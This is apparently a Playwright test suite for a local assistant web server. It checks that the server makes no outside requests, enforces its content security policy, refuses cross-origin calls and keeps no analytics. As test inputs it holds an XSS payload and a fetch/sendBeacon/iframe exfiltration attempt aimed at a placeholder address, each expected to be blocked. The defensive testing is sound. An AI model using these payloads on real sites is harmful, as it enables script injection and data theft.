"""The server in a real Chromium: nothing leaves the machine, nothing foreign runs, passwords are asked once."""

from __future__ import annotations

import threading
from collections.abc import Iterator
from urllib.parse import urlsplit

import cheap
import pytest
from playwright.sync_api import Browser, BrowserContext, Page, expect

from rag import Assistant
from ui.server.app import Server, Site, start
from ui.server.opening import Opening

pytestmark = pytest.mark.slow


@pytest.fixture(scope="module")
def server(seeds: Assistant) -> Iterator[Server]:
    server = start(Opening.of(seeds))
    yield server
    server.close()


@pytest.fixture
def context(browser: Browser) -> Iterator[BrowserContext]:
    context = browser.new_context()
    context.set_default_timeout(20_000)
    hosts: set[str] = set()
    context.on("request", lambda request: hosts.add(urlsplit(request.url).hostname or urlsplit(request.url).scheme))
    yield context
    context.close()
    assert hosts <= {"127.0.0.1", "data", "blob"}


@pytest.fixture
def page(context: BrowserContext) -> Page:
    return context.new_page()


def test_the_documentation_of_the_api_works_offline_and_asks(page: Page, server: Server) -> None:
    blocked: list[str] = []
    page.on("console", lambda message: blocked.append(message.text) if message.type == "error" else None)
    page.goto(f"{server.url}/docs")
    page.get_by_role("button", name="POST /api/ask").first.click()
    page.get_by_role("button", name="Execute").click()
    expect(page.locator(".live-responses-table tbody .response-col_status").first).to_contain_text("200")
    expect(page.locator(".live-responses-table tbody")).to_contain_text("understood_as")
    assert blocked == []


def test_a_script_that_an_article_brought_in_does_not_run(page: Page, server: Server) -> None:
    page.goto(server.url)
    page.get_by_role("tab", name="Ask").wait_for()
    with page.expect_console_message(lambda message: "Content Security Policy" in message.text):
        page.evaluate(
            """() => {
                const hostile = document.createElement("div");
                hostile.innerHTML =
                    "<img src=data:, onerror='window.ran = 1'><a href='javascript:window.ran = 1'>x</a>";
                document.body.append(hostile);
                const script = document.createElement("script");
                script.textContent = "window.ran = 1";
                document.body.append(script);
                hostile.querySelector("a").click();
            }"""
        )
    page.wait_for_function("() => [...document.images].every((image) => image.complete)")
    assert page.evaluate("() => window.ran") is None


def test_what_another_host_would_be_sent_is_stopped(page: Page, server: Server) -> None:
    page.goto(server.url)
    page.evaluate(
        """async () => {
            window.stopped = new Set();
            const heard = (event) => window.stopped.add(event.violatedDirective);
            document.addEventListener("securitypolicyviolation", heard);
            await fetch("http://192.0.2.1/?q=secret").catch(() => null);
            navigator.sendBeacon("http://192.0.2.1/", "secret");
            const frame = document.createElement("iframe");
            frame.src = "http://192.0.2.1/";
            document.body.append(frame);
        }"""
    )
    # a busy machine's browser tells of a frame later than of a request
    page.wait_for_function("() => window.stopped.has('connect-src') && window.stopped.has('frame-src')")
    assert set(page.evaluate("() => [...window.stopped]")) == {"connect-src", "frame-src"}


def test_another_sites_page_can_neither_ask_nor_read(context: BrowserContext, server: Server) -> None:
    foreign = context.new_page()
    foreign.route("http://127.0.0.1:1/", lambda route: route.fulfill(body="<p>foreign", content_type="text/html"))
    foreign.goto("http://127.0.0.1:1/")
    statuses = foreign.evaluate(
        """async (url) => {
            const body = '{"question": "Who?"}';
            const ask = (options) => fetch(url + "/api/ask", { method: "POST", body, ...options })
                .then((response) => response.status, () => "refused");
            return [await ask({}), await ask({ mode: "no-cors" }),
                await fetch(url + "/api/status").then((response) => response.status, () => "refused")];
        }""",
        server.url,
    )
    assert statuses == ["refused"] * 3


def test_what_people_do_is_neither_kept_nor_summed_up(page: Page, server: Server) -> None:
    queue = server._page._queue
    page.goto(server.url)
    page.get_by_role("tab", name="Ask").wait_for()
    with page.expect_response("**/gradio_api/queue/join*") as joined:
        pass
    assert joined.value.json()["event_id"]
    with page.expect_response("**/gradio_api/queue/join*"):
        pass
    assert queue.events_recorded > 1
    assert len(queue.event_analytics) <= 1
    assert queue.cached_event_analytics_summary == {"functions": {}}


def test_a_person_with_a_password_gets_the_whole_page(browser: Browser, seeds: Assistant) -> None:
    server = start(Opening.of(seeds), Site(users=cheap.users(ann="correct horse")))
    ann = browser.new_context(http_credentials={"username": "ann", "password": "correct horse"})
    try:
        page = ann.new_page()
        refused: list[str] = []
        page.on("response", lambda response: refused.append(response.url) if response.status >= 400 else None)
        page.goto(server.url)
        page.get_by_role("tab", name="Ask").wait_for()
        asked = page.evaluate(
            """() => fetch("/api/ask", { method: "POST", headers: { "content-type": "application/json" },
                body: JSON.stringify({ question: "Who said what?" }) }).then((response) => response.status)"""
        )
        assert asked == 200
        assert refused == []
    finally:
        ann.close()
        server.close()


def test_an_open_page_does_not_keep_the_server_from_ending(browser: Browser, seeds: Assistant) -> None:
    server = start(Opening.of(seeds))
    page = browser.new_page()
    page.goto(server.url)
    page.get_by_role("tab", name="Ask").wait_for()
    ending = threading.Thread(target=server.close)
    ending.start()
    ending.join(20)
    assert not ending.is_alive()
    assert not server._thread.is_alive()
    page.close()
